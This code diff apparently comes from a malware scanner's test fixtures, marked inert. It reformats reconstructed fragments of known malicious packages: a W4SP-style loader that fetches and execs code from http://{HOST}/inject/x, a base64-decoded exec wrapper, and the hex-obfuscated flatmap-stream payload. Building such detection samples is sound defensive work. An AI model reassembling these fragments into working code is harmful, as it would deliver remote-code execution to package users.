@@ -29,7 +29,11 @@ def w4sp_plain() -> dict[str, bytes]:
             split("from sys import executable as _eexec", "utable"),
             split("from os import system as _ss", "ystem"),
             split("_ttmp = _ff", "ile(delete=False)"),
-            split('_ttmp.write(b"""from urllib.request import urlopen as _uu', "rlopen;exec(_uurlopen(", f"'http://{HOST}/inject/x').read())\"\"\")"),
+            split(
+                '_ttmp.write(b"""from urllib.request import urlopen as _uu',
+                "rlopen;exec(_uurlopen(",
+                f'\'http://{HOST}/inject/x\').read())""")',
+            ),
             split('try: _ssystem(f"start {_eexec', "utable.replace('.exe', 'w.exe')} {_ttmp.name}\")"),
             "except: pass",
         )
@@ -41,7 +45,12 @@ def w4sp_encoded() -> dict[str, bytes]:
     return {
         "w4sp-encoded-init-py": text(
             f"import sys; sys.exit(0)  # {INERT_NOTE}",
-            split("__import__('builtins').exec(__import__('builtins').compile(", "__import__('base64').b64decode(\"", payload, "\"),'<string>','exec'))"),
+            split(
+                "__import__('builtins').exec(__import__('builtins').compile(",
+                "__import__('base64').b64decode(\"",
+                payload,
+                "\"),'<string>','exec'))",
+            ),
         )
     }
 
@@ -52,9 +61,14 @@ def flatmap() -> dict[str, bytes]:
             f"function neverCalled() {{ return; // {INERT_NOTE}",
             "try{var r=require,t=process;",
             split('function e(r){return Buffer.from(r,"hex").to', "String()}"),
-            split('var n=r(e("2e2f746573742f', '64617461")),o=t[e("656e76")][e("6e706d5f7061636b6167655f6465736372697074696f6e")];'),
+            split(
+                'var n=r(e("2e2f746573742f',
+                '64617461")),o=t[e("656e76")][e("6e706d5f7061636b6167655f6465736372697074696f6e")];',
+            ),
             "if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));",
-            split("var f=new module.con", "structor;f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){} }"),
+            split(
+                "var f=new module.con", 'structor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){} }'
+            ),
         )
     }
 
